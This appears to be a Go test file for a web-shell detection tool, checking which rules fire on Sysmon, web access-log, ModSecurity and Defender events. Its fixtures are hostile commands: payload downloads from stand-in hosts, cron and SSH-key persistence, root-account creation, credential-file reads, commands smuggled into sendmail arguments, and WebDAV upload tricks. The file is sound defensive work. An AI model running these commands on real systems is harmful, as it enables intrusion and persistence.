package rules_test

import (
	"cmp"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"webshellbeat/config"
	"webshellbeat/detection"
	"webshellbeat/detection/sigma"
	"webshellbeat/detector"
	"webshellbeat/internal/testfiles"
	"webshellbeat/module/accesslog"
	"webshellbeat/module/modsec"
	"webshellbeat/module/windows"
	"webshellbeat/rules"
)

// sysmonEvent builds a Sysmon event (Windows, or Sysmon for Linux as one
// syslog line) with the given EventData, and maps it to ECS with the
// beat's own mapper, so that a rule is tested on what it will really see.
func sysmonEvent(t *testing.T, linux bool, id int, data ...string) map[string]any {
	t.Helper()
	xml := testfiles.SysmonEvent(linux, id, time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC), "web1", data...)
	var rec *windows.Record
	var err error
	if linux {
		rec, err = windows.ParseSyslog("Nov 26 10:00:00 web1 sysmon: " + xml)
	} else {
		rec, err = windows.ParseXML([]byte(xml))
	}
	if err != nil {
		t.Fatal(err)
	}
	return rec.ECS()
}

// linuxProcessRules maps a Sysmon for Linux process creation (the process's
// pid, image, command line and user, its parent's pid, image and command
// line) with the beat's own mapper, runs det on it and returns the ids of
// the rules it matched.
func linuxProcessRules(t *testing.T, det *detector.Detector, pid int, image, cmd, user string, ppid int, parentImage, parentCmd string) []string {
	t.Helper()
	doc := sysmonEvent(t, true, 1, "ProcessId", fmt.Sprint(pid), "Image", image, "CommandLine", cmd,
		"User", user, "ParentProcessId", fmt.Sprint(ppid), "ParentImage", parentImage, "ParentCommandLine", parentCmd)
	det.Detect(doc)
	return detection.LookupStrings(doc, "webshell.rule_ids")
}

const (
	winScriptWrite = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a05"
	lnxScriptWrite = "20c04b82-a4c5-4699-a858-32f57e48b0ca"
)

// The pack's script-write rules, on file-creation events as the mappers
// give them: a web server (or, on Linux, a web-server account) creating a
// server-side script alerts; its logs, ASP.NET's compiled pages and other
// programs' scripts do not.
func TestScriptWriteRules(t *testing.T) {
	checkFileRules(t, []string{winScriptWrite, lnxScriptWrite}, []fileCase{
		{"iis writes an aspx", false, []string{"Image", `C:\Windows\System32\inetsrv\w3wp.exe`, "TargetFilename", `C:\inetpub\wwwroot\uploads\help.aspx`, "User", `IIS APPPOOL\DefaultAppPool`}, winScriptWrite},
		{"iis compiles a page", false, []string{"Image", `C:\Windows\System32\inetsrv\w3wp.exe`, "TargetFilename", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\x\App_Web_a.aspx`}, ""},
		{"an editor writes an aspx", false, []string{"Image", `C:\Windows\notepad.exe`, "TargetFilename", `C:\inetpub\wwwroot\a.aspx`}, ""},
		{"tomcat writes a jsp", true, []string{"Image", "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", "User", "tomcat", "TargetFilename", "/opt/tomcat/webapps/ROOT/shell.jsp"}, lnxScriptWrite},
		{"tomcat writes its log", true, []string{"Image", "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", "User", "tomcat", "TargetFilename", "/opt/tomcat/logs/vulnapp-2.14.0.log"}, ""},
		{"php-fpm writes a php", true, []string{"Image", "/usr/sbin/php-fpm8.2", "User", "root", "TargetFilename", "/var/www/html/wp-content/uploads/x.php"}, lnxScriptWrite},
		{"frankenphp writes a php", true, []string{"Image", "/usr/local/bin/frankenphp", "User", "root", "TargetFilename", "/app/public/x.php"}, lnxScriptWrite},
		{"curl as www-data drops a php", true, []string{"Image", "/usr/bin/curl", "User", "www-data", "TargetFilename", "/var/www/html/up.phtml"}, lnxScriptWrite},
		{"an admin edits a php", true, []string{"Image", "/usr/bin/vim.basic", "User", "alice", "TargetFilename", "/var/www/html/index.php"}, ""},
	})
}

// fileCase is a Sysmon file-creation event (11) and the one rule of a
// checkFileRules set it must match ("" for none of them).
type fileCase struct {
	name  string
	linux bool
	data  []string // EventData names and values
	want  string
}

// checkFileRules runs each case through the default detector and checks
// that of rules, it matches its want and no other.
func checkFileRules(t *testing.T, rules []string, cases []fileCase) {
	t.Helper()
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			doc := sysmonEvent(t, tt.linux, 11, append([]string{"ProcessId", "4242"}, tt.data...)...)
			det.Detect(doc)
			ids := detection.LookupStrings(doc, "webshell.rule_ids")
			for _, id := range rules {
				if slices.Contains(ids, id) != (id == tt.want) {
					t.Errorf("rule %s: matched %v, want %v (rules %v)", id, slices.Contains(ids, id), id == tt.want, ids)
				}
			}
		})
	}
}

// The pack's per-folder configuration rules: a web server (or, on Linux, a
// web-server account) writing a .htaccess, .user.ini or web.config alerts;
// an administrator's edit and look-alike names do not.
func TestConfigWriteRules(t *testing.T) {
	const (
		lnx = "7dbe368c-6c91-4fec-91dd-f25a43be90c7"
		win = "d674c6e1-5f9b-48bd-a0c9-56acaa13ea3f"
	)
	checkFileRules(t, []string{lnx, win}, []fileCase{
		{"apache writes a .htaccess into uploads", true, []string{"Image", "/usr/sbin/apache2", "User", "www-data", "TargetFilename", "/var/www/html/uploads/.htaccess"}, lnx},
		{"php-fpm writes a .user.ini", true, []string{"Image", "/usr/sbin/php-fpm8.2", "User", "www-data", "TargetFilename", "/var/www/html/uploads/.user.ini"}, lnx},
		{"a shell's cp as www-data", true, []string{"Image", "/usr/bin/cp", "User", "www-data", "TargetFilename", "/var/www/html/.htaccess"}, lnx},
		{"an admin edits the site's .htaccess", true, []string{"Image", "/usr/bin/vim.basic", "User", "alice", "TargetFilename", "/var/www/html/.htaccess"}, ""},
		{"a look-alike name", true, []string{"Image", "/usr/sbin/apache2", "User", "www-data", "TargetFilename", "/var/www/html/uploads/my.htaccess"}, ""},
		{"iis writes a web.config into uploads", false, []string{"Image", `C:\Windows\System32\inetsrv\w3wp.exe`, "TargetFilename", `C:\inetpub\wwwroot\uploads\web.config`, "User", `IIS APPPOOL\DefaultAppPool`}, win},
		{"an editor changes web.config", false, []string{"Image", `C:\Windows\notepad.exe`, "TargetFilename", `C:\inetpub\wwwroot\web.config`}, ""},
		{"iis writes myweb.config", false, []string{"Image", `C:\Windows\System32\inetsrv\w3wp.exe`, "TargetFilename", `C:\inetpub\wwwroot\uploads\myweb.config`}, ""},
	})
}

// The request rule, on access lines as the mapper gives them: a web shell's
// commands alert; searches and sort orders that happen to begin with a
// command's name do not.
func TestCommandInParameter(t *testing.T) {
	const rule = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a08"
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		target string
		want   bool
	}{
		{"/uploads/shell.php?cmd=whoami", true},
		{"/uploads/shell.php?cmd=id", true},
		{"/uploads/shell.php?c=ls", true},
		{"/uploads/shell.php?x=WHOAMI", true},
		{"/app/login.php?debug=id+-a", true},
		{"/app/login.php?debug=cat+%2fetc%2fhostname", true},
		{"/uploads/shell.php?cmd=ps+aux", true},
		{"/uploads/shell.aspx?q=dir+c:%5c", true},
		{"/uploads/shell.aspx?q=type+web.config", true},
		{"/uploads/shell.php?e=echo+test+%3e+%2ftmp%2fx", true},
		{"/uploads/shell.php?e=ping+10.0.0.1", true},
		{"/uploads/shell.jsp?p=net+user", true},
		{"/uploads/shell.aspx?p=cmd.exe+%2fc+whoami", true},
		{"/uploads/shell.aspx?p=wmic+process+list", true},
		{"/uploads/shell.aspx?CMD=dir", true}, // ASP.NET's Request["cmd"] reads CMD
		{"/uploads/shell.php?CMD=id", false},  // PHP's $_GET["cmd"] does not
		{"/uploads/shell.aspx?p=reg+query+HKLM%5cSAM", true},
		{"/uploads/shell.aspx?p=nltest+%2fdclist:", true},
		{"/search.php?q=cat+videos", false},
		{"/search.php?q=cat", false},
		{"/search.php?s=ping+pong", false},
		{"/index.php?q=echo+chamber", false},
		{"/forum.php?search=netstat+tutorial", false},
		{"/index.php?s=curl+example", false},
		{"/blog.php?tag=wget", false},
		{"/index.php?p=id", false},
		{"/list.php?sort=id", false},
		{"/index.php?lang=dir", false},
		{"/index.php?r=type", false},
		{"/x.php?view=hostname", false},
		{"/index.php?id=5", false},
		{"/static/cmd.txt?cmd=whoami", false}, // not a script page
		// Extensions an upload filter lets through that Apache may still
		// run as PHP (Debian's php8.2.conf runs .phar and .phtml, older
		// Ubuntu's .pht too), and ColdFusion's.
		{"/uploads/avatar.phar?cmd=id", true},
		{"/uploads/avatar.pht?cmd=uname+-a", true},
		{"/uploads/x.php7?c=whoami", true},
		{"/CFIDE/x.cfml?cmd=whoami", true},
		// A command after a shell's separator, whatever comes first (a JSP
		// shell's "sleep 3; whoami" raised nothing before).
		{"/pcmd.jsp?c=sleep%203;%20whoami", true},
		{"/x.php?q=cd+%2Ftmp+%26%26+wget+http%3A%2F%2F198.51.100.7%2Fa.sh", true},
		{"/x.php?q=true%3Bid", true},
		{"/x.php?q=%24(id)", true},
		{"/x.php?q=x%7Cuname+-a", true},
		{"/search.php?q=Q%26A", false},
		{"/search.php?q=tom+%26+jerry", false},
		{"/search.php?q=dog%7Ccat", false},
		{"/search.php?q=B%26W", false},
		{"/search.php?q=rock%3Bpaper", false},
		{"/search.php?q=AT%26T+ps+vita", false},
	} {
		line := `203.0.113.7 - - [26/Nov/2026:10:00:01 +0000] "GET ` + tt.target + ` HTTP/1.1" 200 31 "-" "curl/8.5.0"`
		if got := requestMatches(t, det, line, rule); got != tt.want {
			t.Errorf("%s: alert %v, want %v", tt.target, got, tt.want)
		}
	}
}

// The same rule reads a POST's form body as ModSecurity's audit log keeps
// it (module/modsec): a command there alerts as in a query, a form's
// everyday words do not, and neither does a body that is no form.
func TestCommandInBody(t *testing.T) {
	const rule = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a08"
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		page, contentType, body string
		want                    bool
	}{
		{"/uploads/shell.php", "application/x-www-form-urlencoded", "cmd=whoami", true},
		{"/uploads/shell.php", "application/x-www-form-urlencoded", "cmd=id", true},
		{"/app/login.php", "application/x-www-form-urlencoded", "user=admin&debug=cat+%2Fetc%2Fhostname", true},
		{"/uploads/x.aspx", "", "z1=cmd.exe+%2Fc+whoami", true}, // curl -d, web shell clients: no type
		{"/search.php", "application/x-www-form-urlencoded", "q=cat+videos", false},
		{"/list.php", "application/x-www-form-urlencoded", "sort=id", false},
		{"/api.php", "application/json", `{"cmd":"whoami"}`, false},
		{"/static/x.txt", "application/x-www-form-urlencoded", "cmd=whoami", false},
	} {
		entry := "--0a1b2c3d-A--\n[26/Nov/2026:10:00:01 +0000] AbCdEf 203.0.113.7 40000 10.0.0.10 80\n" +
			"--0a1b2c3d-B--\nPOST " + tt.page + " HTTP/1.1\nHost: www.example.com\n"
		if tt.contentType != "" {
			entry += "Content-Type: " + tt.contentType + "\n"
		}
		entry += "\n--0a1b2c3d-C--\n" + tt.body + "\n--0a1b2c3d-F--\nHTTP/1.1 200 OK\n\n--0a1b2c3d-Z--\n"
		doc, err := modsec.Parse(entry)
		if err != nil {
			t.Fatal(err)
		}
		if got := ruleMatches(det, doc, rule); got != tt.want {
			t.Errorf("POST %s %s: alert %v, want %v", tt.page, tt.body, got, tt.want)
		}
	}
}

// The upload-folder rule: a script answering under a folder of uploaded
// files alerts, with or without a command in its URL (a China Chopper POST
// shows none); the folder's images, the upload handler and a 404 do not.
func TestScriptInUploadFolder(t *testing.T) {
	const rule = "7d072be8-ac55-4b4a-b08a-842aa1bc44bc"
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	checkRequests(t, det, rule, `203.0.113.7 - - [26/Nov/2026:10:00:01 +0000] "%s HTTP/1.1" %d 31 "-" "Mozilla/5.0"`, []requestCase{
		{"POST /wp-content/uploads/2024/05/cache.php", 200, true},
		{"POST /aspnet_client/system_web/4_0_30319/errorcheck.aspx", 200, true},
		{"GET /sites/default/files/x.phtml?1", 200, true},
		{"POST /Uploads/avatar.ASPX", 200, true},
		{"GET /wp-content/uploads/2024/05/photo.jpg", 200, false},
		{"POST /wp-admin/async-upload.php", 200, false},
		{"POST /upload.php", 200, false},
		{"POST /uploads/shell.php", 404, false},
	})
}

// The PUT rule: a script created by PUT, MOVE or COPY (201, or 204 where
// it replaced a file: a page overwritten with a backdoored one) alerts, with the suffixes servers drop
// (Tomcat's /, a space, ::$DATA, IIS's ;.jpg); a probe answered 4xx, a
// text file, a GET and a REST update through a front controller do not.
func TestScriptPutRule(t *testing.T) {
	const rule = "02369e75-bce3-4f4f-82fb-fcd3d8636d77"
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	checkRequests(t, det, rule, `203.0.113.7 - - [26/Nov/2026:10:00:01 +0000] "%s HTTP/1.1" %d 0 "-" "curl/8.0"`, []requestCase{
		{"PUT /shell.jsp/", 201, true},
		{"PUT /uploads/x.php", 201, true},
		{"PUT /x.JSPX", 201, true},
		{"PUT /x.jsp%20", 201, true},
		{"PUT /x.aspx::$DATA", 201, true},
		{"COPY /a.asp;.jpg", 201, true},
		{"MOVE /dav/old.php", 204, true},
		{"PUT /x.php", 204, true}, // Apache's mod_dav over an existing page, live
		{"PUT /index.php/api/users/12", 204, false},
		{"PUT /shell.jsp/", 405, false},
		{"PUT /shell.jsp/", 403, false},
		{"PUT /uploads/x.txt", 201, false},
		{"MOVE /uploads/x.txt", 201, false},
		{"GET /uploads/x.php", 200, false},
		{"PUT /index.php/api/users/12", 201, false},
		{"POST /x.php", 201, false},
	})
	// IIS's W3C log, WebDAV's classic target.
	w3c := accesslog.NewW3C()
	if _, err := w3c.Parse("#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"); err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]bool{
		"2026-11-26 10:00:01 10.0.0.5 PUT /test.asp;.jpg - 80 - 203.0.113.7 curl/8.0 - 201 0 0 15": true,
		"2026-11-26 10:00:01 10.0.0.5 PUT /test.txt - 80 - 203.0.113.7 curl/8.0 - 201 0 0 15":      false,
	} {
		doc, err := w3c.Parse(line)
		if err != nil {
			t.Fatal(err)
		}
		if got := ruleMatches(det, doc, rule); got != want {
			t.Errorf("W3C %s: alert %v, want %v", line, got, want)
		}
	}
}

// requestMatches maps an access line as the beat does and reports whether
// rule (an id) matches it.
func requestMatches(t *testing.T, det *detector.Detector, line, rule string) bool {
	t.Helper()
	doc, err := accesslog.ParseCombined(line)
	if err != nil {
		t.Fatal(err)
	}
	return ruleMatches(det, doc, rule)
}

// ruleMatches runs doc through det and reports whether rule (an id) matched.
func ruleMatches(det *detector.Detector, doc map[string]any, rule string) bool {
	det.Detect(doc)
	return slices.Contains(detection.LookupStrings(doc, "webshell.rule_ids"), rule)
}

// requestCase is the request and status of an access line, and whether
// the rule under test must match it.
type requestCase struct {
	request string
	status  int
	want    bool
}

// checkRequests writes each case into format (a combined-format line whose
// %s is the request and %d the status) and checks rule on it.
func checkRequests(t *testing.T, det *detector.Detector, rule, format string, cases []requestCase) {
	t.Helper()
	for _, tt := range cases {
		if got := requestMatches(t, det, fmt.Sprintf(format, tt.request, tt.status), rule); got != tt.want {
			t.Errorf("%s %d: alert %v, want %v", tt.request, tt.status, got, tt.want)
		}
	}
}

const winDefenderWebshell = "69683995-4795-4966-b1b2-1c75026b7040"

// defenderEvent is module/windows/testdata/defender-1116.xml with another
// event id, threat, path and process, mapped by the beat's own mapper.
func defenderEvent(t *testing.T, id, threat, path, process string) map[string]any {
	t.Helper()
	raw, err := os.ReadFile("../module/windows/testdata/defender-1116.xml")
	if err != nil {
		t.Fatal(err)
	}
	xml := strings.NewReplacer("<EventID>1116<", "<EventID>"+id+"<",
		"Backdoor:ASP/Chopper.F!dha", threat,
		`file:_C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\web.aspx`, path,
		`C:\Windows\System32\inetsrv\w3wp.exe`, process).Replace(string(raw))
	return xmlECS(t, xml)
}

// The Defender rule: a web shell family, any threat in a script under a
// web root, or any threat a web server touched alerts; Defender's other
// detections (a PUA in Downloads, EICAR on a desktop) and other events do
// not.
func TestDefenderWebshellRule(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name, id, threat, path, process string
		want                            bool
	}{
		{"chopper in owa by w3wp", "1116", "Backdoor:ASP/Chopper.F!dha", `file:_C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\web.aspx`, `C:\Windows\System32\inetsrv\w3wp.exe`, true},
		{"php backdoor quarantined", "1117", "Backdoor:PHP/Dirtelti.MTF", `file:_C:\xampp\htdocs\wp-content\uploads\x.php`, `Unknown`, true},
		{"generic trojan in an aspx under inetpub", "1116", "Trojan:Win32/Wacatac.B!ml", `file:_C:\inetpub\wwwroot\aspnet_client\system_web\errorFE.aspx`, `Unknown`, true},
		{"a miner written by w3wp", "1116", "Trojan:Win32/CoinMiner", `file:_C:\Windows\Temp\x.exe`, `C:\Windows\System32\inetsrv\w3wp.exe`, true},
		{"a pua in downloads", "1116", "PUA:Win32/Presenoker", `file:_C:\Users\bob\Downloads\setup.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, false},
		{"eicar on a desktop", "1116", "Virus:DOS/EICAR_Test_File", `file:_C:\Users\bob\Desktop\eicar.com`, `C:\Windows\explorer.exe`, false},
		{"a scan that found the shell, not a detection event", "1001", "Backdoor:ASP/Chopper.F!dha", `file:_C:\inetpub\wwwroot\x.aspx`, `Unknown`, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			doc := defenderEvent(t, tt.id, tt.threat, tt.path, tt.process)
			det.Detect(doc)
			if ids := detection.LookupStrings(doc, "webshell.rule_ids"); slices.Contains(ids, winDefenderWebshell) != tt.want {
				t.Errorf("matched %v, want %v (rules %v)", slices.Contains(ids, winDefenderWebshell), tt.want, ids)
			}
		})
	}
}

// SigmaHQ's windefend rules name Defender's fields without their spaces
// (ThreatName for "Threat Name"): the built-in Windows pipeline maps them,
// so its RedSun rule (EventID 1119, SourceName, Path, ThreatName) fires on
// such an event, and not on the same event of another threat.
func TestSigmaHQDefenderFields(t *testing.T) {
	cfg := config.Default()
	cfg.Rules = config.Rules{Paths: []string{"../../shared/data/SigmaHQ-sigma/rules-emerging-threats/2026/Exploits/RedSun/win_defender_exploit_redsun_tiering_engine_detected_as_eicar.yml"}}
	det, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	const redSun = "a7c3e5f2-8b1d-4e9a-b6c2-3d7f5e8a9b4c"
	path := `file:_C:\Users\bob\AppData\Local\Temp\3\RS-{0F5C2A}\TieringEngineService.exe`
	for threat, want := range map[string]bool{"Virus:DOS/EICAR_Test_File": true, "Trojan:Win32/Wacatac.B!ml": false} {
		doc := defenderEvent(t, "1119", threat, path, `Unknown`)
		det.Detect(doc)
		if ids := detection.LookupStrings(doc, "webshell.rule_ids"); slices.Contains(ids, redSun) != want {
			t.Errorf("%s: RedSun rule matched %v, want %v (rules %v)", threat, slices.Contains(ids, redSun), want, ids)
		}
	}
}

// The PHP mail() filter: the shell PHP starts for sendmail_path, as
// Apache's child or a php-fpm worker, is no alert of the web-server shell
// rules; the same line with a command after it is.
func TestPHPMailFilter(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	shellRules := []string{"6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a06", "9c4e7b1f-2d8a-4f3c-b6e5-1a7d9c2e4f80", "a23456789-abcd012345-bcd678901234"}
	for i, tt := range []struct {
		cmd   string
		alert bool
	}{
		{"sh -c /usr/sbin/sendmail -t -i", false},
		{"sh -c /usr/sbin/sendmail -t -i ", false},
		{"sh -c /usr/sbin/sendmail -t -i -fwebmaster@example.org", false},
		{"sh -c /usr/sbin/sendmail -t -i -f webmaster@example.org", false},
		{"sh -c /usr/sbin/sendmail -t -i; id", true},
		{"sh -c /usr/sbin/sendmail -t -i -fa@example.org|sh", true},
		{"sh -c /usr/sbin/sendmail -t -i -f $(id)", true},
		{"sh -c id; /usr/sbin/sendmail -t -i", true},
	} {
		t.Run(tt.cmd, func(t *testing.T) {
			doc := sysmonEvent(t, true, 1, "ProcessId", fmt.Sprint(5000+i), "Image", "/usr/bin/dash", "CommandLine", tt.cmd,
				"User", "www-data", "ParentProcessId", "4000", "ParentImage", "/usr/sbin/apache2", "ParentCommandLine", "/usr/sbin/apache2 -k start")
			det.Detect(doc)
			ids := detection.LookupStrings(doc, "webshell.rule_ids")
			for _, id := range shellRules {
				if slices.Contains(ids, id) != tt.alert {
					t.Errorf("rule %s matched %v, want %v (rules %v)", id, slices.Contains(ids, id), tt.alert, ids)
				}
			}
		})
	}
}

// The mail() bypass rule: a child of PHP's sendmail shell other than the
// MTA it names is the command an LD_PRELOAD library ran
// (TestLiveMailBypass captures it live); sendmail itself, with or without
// a sender, run directly or by its interpreter, or the injector an MTA
// execs in place, is not, and neither is a child of another shell.
func TestPHPMailBypassRule(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	const rule = "fb789679-bac3-4275-82bb-b1ef2301131e"
	const mailShell = "sh -c /usr/sbin/sendmail -t -i"
	for i, tt := range []struct {
		image, cmd, parent string
		alert              bool
	}{
		{"/usr/bin/dash", "sh -c id > /tmp/o 2>&1", mailShell, true},
		{"/usr/bin/dash", "sh -c /tmp/acpid.socket", mailShell + " -fwebmaster@example.org", true},
		{"/tmp/x", "/tmp/x", mailShell, true},
		{"/usr/sbin/sendmail", "/usr/sbin/sendmail -t -i", mailShell, false},
		{"/usr/sbin/exim4", "/usr/sbin/sendmail -t -i -fwebmaster@example.org", mailShell + " -fwebmaster@example.org", false},
		{"/usr/bin/nullmailer-inject", "/usr/bin/nullmailer-inject -b", mailShell, false}, // exec'd by nullmailer's sendmail, same pid
		{"/tmp/nullmailer-inject", "/tmp/nullmailer-inject -b", mailShell, true},
		{"/usr/bin/dash", "/bin/sh /usr/sbin/sendmail -t -i", mailShell, false},
		{"/usr/bin/dash", "/bin/sh /usr/sbin/sendmail -t -i; id", mailShell, true},
		{"/usr/bin/id", "id", "sh -c id", false},
		{"/usr/sbin/sendmail", "/usr/sbin/sendmail -t -i", "sh -c /usr/sbin/sendmail -t -i; id", false},
	} {
		t.Run(tt.cmd+" under "+tt.parent, func(t *testing.T) {
			ids := linuxProcessRules(t, det, 7000+i, tt.image, tt.cmd, "www-data", 4000, "/usr/bin/dash", tt.parent)
			if slices.Contains(ids, rule) != tt.alert {
				t.Errorf("rule matched %v, want %v (rules %v)", slices.Contains(ids, rule), tt.alert, ids)
			}
		})
	}
}

// The recon rule: a discovery command as a web-server account, or under a
// web server as any account (a shared host's per-site php-fpm pool runs as
// the site's own); not the same command of another account with no web
// server above it.
func TestReconRule(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	const recon = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a07"
	for i, tt := range []struct {
		image, cmd, user, parent string
		alert                    bool
	}{
		{"/usr/bin/dash", "sh -c whoami", "www-data", "/usr/sbin/apache2", true},
		{"/usr/bin/id", "id", "www-data", "/usr/bin/dash", true}, // the account, the parent unknown to the table
		{"/usr/bin/dash", "sh -c echo x; id", "example_com", "/usr/sbin/php-fpm8.2", true},
		{"/usr/bin/uname", "uname -a", "site1", "/usr/bin/php-cgi8.2", true},
		{"/usr/bin/dash", "sh -c cat /etc/passwd", "app", "/usr/sbin/nginx", true},
		{"/usr/bin/dash", "sh -c id", "root", "/usr/local/bin/frankenphp", true},                                                      // PHP in Caddy's process, root in its image
		{"/usr/bin/dash", "sh -c ping -c 1 x;id", "app", "/usr/bin/python3.11", false},                                                // a Python program, no server
		{"/usr/bin/dash", "sh -c ping -c 1 x;id", "app", "/usr/bin/python3.11 /usr/bin/python3 /usr/bin/gunicorn -w 2 app:app", true}, // a Flask app under gunicorn
		{"/usr/bin/id", "id", "app", "/usr/bin/ruby3.1 puma: cluster worker 0: 812 [app]", true},
		{"/usr/bin/dash", "sh -c convert a.png b.jpg", "example_com", "/usr/sbin/php-fpm8.2", false},
		{"/usr/bin/id", "id", "deploy", "/usr/bin/bash", false}, // an administrator's shell
		{"/usr/bin/dash", "sh -c uname -a", "backup", "/usr/sbin/cron", false},
	} {
		t.Run(tt.cmd+" as "+tt.user, func(t *testing.T) {
			// parent: the image, then its command line where it differs
			// (a script server's: /proc/<pid>/cmdline).
			image, cmd, _ := strings.Cut(tt.parent, " ")
			if cmd == "" {
				cmd = image
			}
			ids := linuxProcessRules(t, det, 8000+i, tt.image, tt.cmd, tt.user, 5000+i, image, cmd)
			if slices.Contains(ids, recon) != tt.alert {
				t.Errorf("alerted %v, want %v (rules %v)", slices.Contains(ids, recon), tt.alert, ids)
			}
		})
	}
}

// The persistence rule: a cron job, an SSH key or an account set up as a
// web-server account or under a web server (the first cases are the live
// test's events, tests/live_persistence_test.go); not the same programs of
// an administrator or of cron itself, nor a web application's own commands.
func TestPersistenceRule(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	const rule = "4475bad7-c738-45c0-8717-09d444925069"
	for i, tt := range []struct {
		image, cmd, user, parent string
		alert                    bool
	}{
		{"/usr/bin/crontab", "crontab -", "www-data", "/usr/bin/dash", true}, // fed by the shell's pipe
		{"/usr/bin/crontab", "crontab -l", "www-data", "/usr/bin/dash", true},
		{"/usr/bin/dash", "sh -c (crontab -l 2>/dev/null; echo '* * * * * curl -s http://x/a | sh') | crontab -", "www-data", "/usr/sbin/apache2", true},
		{"/usr/bin/dash", "sh -c mkdir -p /var/www/.ssh && echo 'ssh-ed25519 AAAA x' >> /var/www/.ssh/authorized_keys", "www-data", "/usr/sbin/php-fpm8.2", true},
		{"/usr/bin/dash", "sh -c echo '* * * * * root /tmp/x' > /etc/cron.d/x", "root", "/usr/sbin/apache2", true}, // after an escalation
		{"/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M sysd", "root", "/usr/bin/sudo", false},                      // an administrator, no web server above
		{"/usr/sbin/useradd", "useradd -o -u 0 sysd", "site1", "/usr/sbin/php-fpm8.2", true},                       // a shared host's pool
		{"/usr/bin/at", "at now + 1 minute", "tomcat", "/usr/bin/dash", true},
		{"/usr/bin/crontab", "crontab -e", "alice", "/usr/bin/bash", false},                   // an administrator
		{"/usr/bin/dash", "sh -c run-parts /etc/cron.daily", "root", "/usr/sbin/cron", false}, // cron itself
		{"/usr/bin/dash", "sh -c convert a.png b.jpg", "www-data", "/usr/sbin/php-fpm8.2", false},
	} {
		t.Run(tt.cmd+" as "+tt.user, func(t *testing.T) {
			ids := linuxProcessRules(t, det, 9000+i, tt.image, tt.cmd, tt.user, 6000+i, tt.parent, tt.parent)
			if slices.Contains(ids, rule) != tt.alert {
				t.Errorf("alerted %v, want %v (rules %v)", slices.Contains(ids, rule), tt.alert, ids)
			}
		})
	}
}

// The CGI filter: a script of the CGI folder, run alone by its interpreter
// under Apache, is no alert of the web-server shell rules; with arguments,
// from elsewhere, or out of the folder by "..", it is.
func TestCGIFilter(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	for i, tt := range []struct {
		image, cmd string
		alert      bool
	}{
		{"/usr/bin/perl", "/usr/bin/perl /usr/lib/cgi-bin/hello.cgi", false},
		{"/usr/bin/dash", "/bin/sh /usr/lib/cgi-bin/status.sh", false},
		{"/usr/bin/python3", "python3 /var/www/cgi-bin/report.py", false},
		{"/usr/bin/perl", "/usr/bin/perl /usr/lib/cgi-bin/nagios4/status.cgi", false},
		{"/usr/bin/perl", "/usr/bin/perl /usr/lib/cgi-bin/cmd.cgi id", true},
		{"/usr/bin/dash", "/bin/sh /usr/lib/cgi-bin/../../../tmp/x.sh", true},
		{"/usr/bin/dash", "/bin/sh /var/www/html/uploads/x.sh", true},
		{"/usr/bin/dash", "/bin/sh /usr/lib/cgi-bin/status.sh;id", true},
	} {
		t.Run(tt.cmd, func(t *testing.T) {
			ids := linuxProcessRules(t, det, 6000+i, tt.image, tt.cmd, "www-data", 4000, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start")
			if got := slices.Contains(ids, "a23456789-abcd012345-bcd678901234") || slices.Contains(ids, "9c4e7b1f-2d8a-4f3c-b6e5-1a7d9c2e4f80") || slices.Contains(ids, "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a06"); got != tt.alert {
				t.Errorf("alerted %v, want %v (rules %v)", got, tt.alert, ids)
			}
		})
	}
}

// The dropped-program rule: a program run from memory, a deleted file or a
// temporary folder, under a web server or as its account; not the same
// program run by an administrator, nor a web server's ordinary programs.
func TestDroppedProgramRule(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	const dropped = "cc4e1c2a-8aef-4922-8b71-7eb2e69a70c4"
	for i, tt := range []struct {
		image, user, parent string
		alert               bool
	}{
		{"/memfd:kworker (deleted)", "www-data", "/usr/bin/dash", true},
		{"/tmp/.x/kinsing", "www-data", "/usr/bin/dash", true},
		{"/dev/shm/xmrig", "nobody", "/usr/sbin/apache2", true}, // ancestry, whatever the account
		{"/var/tmp/pwnkit", "www-data", "/usr/bin/bash", true},
		{"/home/app/bin/tool (deleted)", "www-data", "/usr/bin/dash", true},
		{"/usr/bin/id", "www-data", "/usr/bin/dash", false},
		{"/tmp/build/configure", "root", "/usr/bin/bash", false},           // an administrator's, no web server above
